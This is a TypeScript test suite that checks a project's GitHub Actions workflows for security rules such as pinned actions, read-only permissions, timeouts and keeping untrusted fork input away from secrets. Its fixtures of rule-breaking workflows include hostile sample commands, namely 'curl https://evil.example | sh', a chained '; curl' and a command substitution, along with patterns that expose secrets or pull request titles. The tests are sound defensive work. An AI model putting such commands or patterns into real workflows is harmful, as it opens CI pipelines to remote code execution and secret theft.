import { spawnSync } from 'node:child_process';
import { globSync, readFileSync } from 'node:fs';
import { convertWorkflowTemplate, NoOperationTraceWriter, parseWorkflow } from '@actions/workflow-parser';
import { describe, expect, test } from 'vitest';
import { parse } from 'yaml';
import manifest from '../package.json' with { type: 'json' };
import { faultsOf, readWorkflow, runsOf, scriptOf, workflowRules } from './workflow-rules.ts';

const files = globSync('.github/workflows/*').toSorted();
const scripts = new Set(Object.keys(manifest.scripts));
const textOf = (file: string): string => readFileSync(file, 'utf8');

/** What GitHub itself says of a workflow: keys, events, rights, expressions. */
async function githubSays(name: string, content: string): Promise<readonly string[]> {
  const { context, value } = parseWorkflow({ name, content }, new NoOperationTraceWriter());
  if (value) await convertWorkflowTemplate(context, value);
  return context.errors.getErrors().map(({ message }) => message);
}

describe.each(files)('%s', (file) => {
  test('is a workflow to GitHub’s own parser', async () => {
    expect(await githubSays(file, textOf(file))).toEqual([]);
  });

  test('keeps the rules of the project', () => {
    expect(faultsOf(textOf(file), scripts)).toEqual([]);
  });
});

test('There is a workflow for each thing that is to happen by itself', () => {
  expect(files.map((file) => file.replace(/.*\//, ''))).toEqual([
    'care.yml',
    'check.yml',
    'comment.yml',
    'deploy.yml',
    'preview.yml',
    'sources.yml',
  ]);
});

test('A workflow that waits for another names one that is there', () => {
  const names = files.map((file) => (parse(textOf(file)) as { readonly name: string }).name);
  const awaited = files.flatMap((file) => {
    const event = readWorkflow(textOf(file)).on['workflow_run'] as
      { readonly workflows: readonly string[] } | undefined;
    return event?.workflows ?? [];
  });
  expect(awaited).toEqual(['Preview']);
  expect(names).toContain('Preview');
});

/** The options that workflows give, by the command. */
const given = Map.groupBy(
  files.flatMap((file) => runsOf(readWorkflow(textOf(file)))),
  scriptOf,
);

test.each([...given].filter(([script]) => script !== 'test' && script !== 'build'))(
  'The options that workflows give to npm run %s are options of that command',
  { timeout: 60_000 },
  (script, runs) => {
    const { stdout } = spawnSync(process.execPath, [`src/cli/${script}.ts`, '--help'], { encoding: 'utf8' });
    const options = runs.flatMap((run) => run.match(/ --[a-z-]+/g) ?? []);
    expect(options.length).toBeGreaterThan(0);
    expect(options.filter((option) => !stdout.includes(option))).toEqual([]);
  },
);

describe('The rules', () => {
  const hash = '0'.repeat(40);
  const expression = (inner: string): string => `$\{{ ${inner} }}`;
  const right = (more: Readonly<Record<string, string>> = {}): string => {
    const {
      on = 'push: {}',
      rights = 'contents: read',
      end = 'timeout-minutes: 5',
      env = '',
      job = '',
      ...rest
    } = more;
    const {
      uses = `actions/checkout@${hash} # v1.0.0`,
      inputs = 'persist-credentials: false',
      run = 'npm test',
    } = rest;
    return [
      'name: X',
      `on: { ${on} }`,
      ...(rights ? [`permissions: { ${rights} }`] : []),
      ...(env ? ['env:', `  ${env}`] : []),
      'jobs:',
      '  a:',
      '    runs-on: ubuntu-latest',
      ...(end ? [`    ${end}`] : []),
      ...(job ? [`    ${job}`] : []),
      '    steps:',
      `      - uses: ${uses}`,
      `        with: { ${inputs} }`,
      `      - run: ${JSON.stringify(run)}`,
    ].join('\n');
  };

  const wrong: Readonly<Record<keyof typeof workflowRules, readonly Readonly<Record<string, string>>[]>> = {
    'a step that is no command of the project': [
      { run: 'curl https://evil.example | sh' },
      { run: 'npm run check -- --changed; curl x' },
      { run: 'npm run nothing' },
      { run: 'npm test\nnpm test' },
      { run: 'npm run check -- $(x)`y`' },
    ],
    'an expression inside a command': [{ run: `npm run check -- --base ${expression('github.base_ref')}` }],
    'an action of somebody else, or not pinned by a hash with its version behind it': [
      { uses: 'actions/checkout@v7' },
      { uses: `actions/checkout@${hash}` },
      { uses: `somebody/action@${hash} # v1.0.0` },
    ],
    'no permissions of its own, or more than to read': [{ rights: '' }, { rights: 'contents: write' }],
    'a job without an end in time': [{ end: '' }, { end: 'timeout-minutes: 360' }],
    'an event in which a fork’s code could have rights': [
      { on: 'pull_request_target: {}' },
      { on: 'issue_comment: {}' },
    ],
    'a fork’s code checked out with rights': [
      {
        on: 'workflow_run: { workflows: [X] }',
        inputs: `persist-credentials: false, ref: "${expression('github.event.workflow_run.head_sha')}"`,
      },
    ],
    'credentials left behind': [{ inputs: 'fetch-depth: 0' }],
    'rights or secrets beside a fork’s code': [
      { on: 'pull_request: {}', job: 'permissions: { pull-requests: write }' },
      { on: 'pull_request: {}', env: `KEY: ${expression('secrets.KEY')}` },
    ],
    'words of somebody in an expression': [
      { env: `T: ${expression('github.event.pull_request.title')}` },
      { env: `T: ${expression('github.head_ref')}` },
    ],
    'a token for more than one step': [{ env: `GITHUB_TOKEN: ${expression('github.token')}` }],
  };

  test('find nothing in a workflow that keeps them', async () => {
    expect(faultsOf(right(), scripts)).toEqual([]);
    expect(await githubSays('x.yml', right())).toEqual([]);
  });

  test.each(Object.entries(wrong).flatMap(([fault, cases]) => cases.map((one) => [fault, one] as const)))(
    'find %s in %j',
    (fault, one) => {
      expect(faultsOf(right(one), scripts)).toContain(fault);
    },
  );

  test('are each tried on what breaks them', () => {
    expect(Object.keys(wrong)).toEqual(Object.keys(workflowRules));
  });

  test.each([
    [{ on: 'pull_requests: {}' }],
    [{ rights: 'content: read' }],
    [{ job: 'needs: nobody' }],
    [{ job: 'if: github.event.foo(' }],
    [{ env: `X: ${expression('gitub.ref')}` }],
  ])('leave to GitHub’s parser what it finds in %j', async (slip) => {
    expect(await githubSays('x.yml', right(slip))).not.toEqual([]);
  });
});
